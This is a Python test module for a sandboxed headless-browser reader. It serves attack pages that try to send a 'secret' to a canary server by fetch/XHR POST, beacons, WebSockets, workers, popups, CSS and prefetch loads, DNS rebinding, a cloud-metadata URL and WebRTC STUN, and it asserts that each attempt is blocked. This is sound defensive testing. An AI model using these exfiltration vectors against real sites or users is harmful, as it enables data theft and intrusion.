"""The attack battery: pages try every known way out; a canary on a non-allowed port must see nothing.

Each attack page is served by the allowed ``site``; it aims at the ``canary`` (a second loopback server
that nothing allows) and, where routing is the layer under test, at the site itself with a forbidden
method or request kind. After the read, the canary must have recorded zero requests, and the site none
of the forbidden ones. ``rebind.test`` resolves (through the reader's injected resolver, which the proxy
uses: Chromium resolves nothing itself) to the canary's address.
"""

from __future__ import annotations

import contextlib
import socket
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import anyio
import pytest
from playwright.async_api import async_playwright

from pagewarden._browser.discovery import find_chromium
from pagewarden._browser.pool import BrowserPool
from pagewarden._browser.render import render
from pagewarden._errors import PagewardenError
from tests.browser.pool_support import (
    AS_ROOT,
    HTML,
    anyio_backend,
    browser_config,
    canary,
    chromium_available,
    page,
    reader_config,
    site,
)
from tests.support.resolvers import StaticResolver
from tests.support.server import FixtureServer

pytestmark = [pytest.mark.browser, pytest.mark.anyio]
__all__ = ["anyio_backend", "canary", "site"]  # fixtures used by this module

REPO = Path(__file__).resolve().parents[2]
CANARY = "CANARY"  # replaced by the canary's origin, http://127.0.0.1:<port>
CANARY_WS = "CANARY_WS"  # ws://127.0.0.1:<port>
SITE = "SITE"  # the site's own origin

# (name, body, head, site paths that must never be requested)
ATTACKS: list[tuple[str, str, str, tuple[str, ...]]] = [
    ("post_fetch", "<script>fetch('SITE/sink', {method: 'POST', body: 'secret'}).catch(() => {});"
     "fetch('CANARY/sink', {method: 'POST', body: 'secret'}).catch(() => {});</script>", "", ()),
    ("post_xhr", "<script>const x = new XMLHttpRequest(); x.open('POST', 'SITE/sink'); x.send('secret');"
     "const y = new XMLHttpRequest(); y.open('POST', 'CANARY/sink'); y.send('secret');</script>", "", ()),
    ("get_fetch_to_canary", "<script>fetch('CANARY/leak?d=1').catch(() => {});</script>", "", ()),
    ("send_beacon", "<script>navigator.sendBeacon('SITE/beacon', 'secret');"
     "navigator.sendBeacon('CANARY/beacon', 'secret');</script>", "", ("/beacon",)),
    ("websocket_page", "<script>try { new WebSocket('CANARY_WS/ws'); } catch (e) {}"
     "try { new WebSocket('SITE_WS/ws'); } catch (e) {}</script>", "", ("/ws",)),
    ("websocket_page_pristine_realm", "<script>const f = document.createElement('iframe');"
     "document.body.appendChild(f); try { new f.contentWindow.WebSocket('SITE_WS/ws2'); } catch (e) {}"
     "try { new f.contentWindow.WebSocket('CANARY_WS/ws2'); } catch (e) {}</script>", "", ("/ws2",)),
    ("websocket_worker", "<script>const src = \"try { new WebSocket('CANARY_WS/wsw'); } catch (e) {}"
     " fetch('CANARY/worker-fetch').catch(() => {});\";"
     "new Worker(URL.createObjectURL(new Blob([src], {type: 'text/javascript'})));</script>", "", ()),
    ("event_source", "<script>try { new EventSource('SITE/events'); } catch (e) {}"
     "try { new EventSource('CANARY/events'); } catch (e) {}</script>", "", ("/events",)),
    ("service_worker", "<script>if (navigator.serviceWorker) navigator.serviceWorker.register('/sw.js')"
     ".catch(() => {});</script>", "", ("/sw.js",)),
    ("iframe", "<iframe src='SITE/frame'></iframe><iframe src='CANARY/frame'></iframe>", "", ("/frame",)),
    ("popup_window_open", "<script>window.open('SITE/popup'); window.open('CANARY/popup');</script>", "",
     ("/popup",)),
    ("popup_link_click", "<a id=a href='SITE/popup2' target=_blank>x</a><a id=b href='CANARY/popup2' "
     "target=_blank>y</a><script>document.getElementById('a').click(); document.getElementById('b').click();"
     "</script>", "", ("/popup2",)),
    # A download link is an ordinary GET (allowed to the site, like fetch); the file itself is refused by the
    # context (accept_downloads=False) and the canary is never reached.
    ("download_link", "<a id=d href='CANARY/dl.bin' download>d</a><script>document.getElementById('d').click();"
     "</script>", "", ()),
    ("meta_refresh_to_canary", "<p>refresh</p>", "<meta http-equiv=refresh content='0;url=CANARY/refresh'>", ()),
    ("meta_refresh_to_private", "<p>refresh</p>", "<meta http-equiv=refresh content='0;url=http://10.9.8.7/'>",
     ()),
    ("script_navigation_to_metadata", "<script>location.href = 'http://169.254.169.254/latest/meta-data/';"
     "</script>", "", ()),
    ("css_import_and_font", "<p class=f>font</p>", "<style>@import url('CANARY/import.css');"
     "@font-face { font-family: x; src: url('CANARY/font.woff2'); } .f { font-family: x; "
     "background: url('CANARY/bg.png'); }</style>", ()),
    ("stylesheet_link", "<p>css</p>", "<link rel=stylesheet href='CANARY/style.css'>", ()),
    ("link_prefetch", "<p>prefetch</p>", "<link rel=prefetch href='SITE/prefetched'>"
     "<link rel=prefetch href='CANARY/prefetched'><link rel=preconnect href='CANARY'>"
     "<link rel=dns-prefetch href='//rebind.test'>", ("/prefetched",)),
    ("image_pixel", "<img src='CANARY/pixel.gif'><img src='SITE/pixel.gif'>", "", ("/pixel.gif",)),
    ("dns_rebinding", "<script>fetch('http://rebind.test:CANARY_PORT/rebound').catch(() => {});</script>"
     "<img src='http://rebind.test:CANARY_PORT/img'>", "", ()),
    ("form_post", "<form id=f method=post action='SITE/form'><input name=a value=b></form>"
     "<script>document.getElementById('f').submit();</script>", "", ()),
]


def _fill(text: str, site: FixtureServer, canary: FixtureServer) -> str:
    return (
        text.replace("CANARY_WS", f"ws://127.0.0.1:{canary.port}")
        .replace("SITE_WS", f"ws://127.0.0.1:{site.port}")
        .replace("CANARY_PORT", str(canary.port))
        .replace(CANARY, canary.url("").rstrip("/"))
        .replace(SITE, site.url("").rstrip("/"))
    )


@pytest.fixture(scope="module")
async def attack_pool(anyio_backend: str, site: FixtureServer, canary: FixtureServer) -> AsyncIterator[BrowserPool]:
    """A pool allowing the site only, with an injected resolver that maps rebind.test to the canary's address."""
    chromium_available()
    resolver = StaticResolver({"rebind.test": ["127.0.0.1"]})
    async with BrowserPool(browser_config(settle_time=1.0), reader_config(site, resolver=resolver)) as shared:
        yield shared


@pytest.fixture
def udp_listener() -> Iterator[socket.socket]:
    """A local UDP socket standing in for a STUN server."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.setblocking(False)
    try:
        yield sock
    finally:
        sock.close()


def _packets(sock: socket.socket) -> int:
    count = 0
    while True:
        try:
            sock.recv(4096)
        except BlockingIOError:
            return count
        count += 1


@pytest.mark.parametrize(("name", "body", "head", "forbidden"), ATTACKS, ids=[a[0] for a in ATTACKS])
async def test_attack_reaches_nothing(
    attack_pool: BrowserPool,
    site: FixtureServer,
    canary: FixtureServer,
    name: str,
    body: str,
    head: str,
    forbidden: tuple[str, ...],
) -> None:
    """The page's attempt never reaches the canary, and forbidden requests never reach the site."""
    site.add(f"/attack/{name}", headers=HTML, body=page(_fill(body, site, canary), _fill(head, site, canary)))
    for path in forbidden:
        site.add(path, headers=HTML, body=page("<p>reached</p>"))
    before = len(site.requests)
    with contextlib.suppress(PagewardenError):
        await render(attack_pool, site.url(f"/attack/{name}"))
    await anyio.sleep(0.2)  # anything in flight lands before we look
    assert canary.requests == []
    seen = site.requests[before:]
    assert f"/attack/{name}" in [r.path for r in seen]  # the attack page itself was loaded
    assert [r.path for r in seen if r.path in forbidden] == []
    assert [r.method for r in seen if r.method not in ("GET", "HEAD")] == []


async def test_redirect_to_canary_is_refused(attack_pool: BrowserPool, site: FixtureServer,
                                             canary: FixtureServer) -> None:
    """A main-document redirect to the canary is refused by the proxy, which sees every hop."""
    site.redirect("/attack/redirect", canary.url("/redirected"))
    with pytest.raises(PagewardenError):
        await render(attack_pool, site.url("/attack/redirect"))
    assert canary.requests == []


async def test_webrtc_flag_alone_stops_stun(site: FixtureServer, udp_listener: socket.socket,
                                            tmp_path: Path) -> None:
    """With RTCPeerConnection left to the page (policy webrtc = false), the launch flags still send no STUN."""
    chromium_available()
    policy_text = (REPO / "browser_policy" / "default.toml").read_text().replace("webrtc = true", "webrtc = false")
    policy = tmp_path / "webrtc.toml"
    policy.write_text(policy_text)
    port = udp_listener.getsockname()[1]
    site.add("/attack/stun", headers=HTML, body=page(
        "<p id=s>stun</p><script>const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:"
        f"{port}'}}]}}); pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o));"
        "document.getElementById('s').textContent = 'stun started';</script>"))
    async with BrowserPool(browser_config(policy=str(policy), settle_time=2.0), reader_config(site)) as webrtc:
        rendered = await render(webrtc, site.url("/attack/stun"))
        await anyio.sleep(1.0)
    assert "stun started" in rendered.html
    assert _packets(udp_listener) == 0


async def test_stun_detector_control(udp_listener: socket.socket) -> None:
    """Control: a browser launched without our flags does send STUN to the listener (the detector works)."""
    chromium_available()
    port = udp_listener.getsockname()[1]
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=str(find_chromium().path),
                                                   chromium_sandbox=not AS_ROOT)
        try:
            control = await browser.new_page()
            await control.set_content("<p>control</p>")
            await control.evaluate(
                "port => { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + port}]});"
                " pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)); }",
                port,
            )
            with anyio.fail_after(10):
                while not _packets(udp_listener):  # noqa: ASYNC110 - polling state that has no event
                    await anyio.sleep(0.1)
        finally:
            await browser.close()
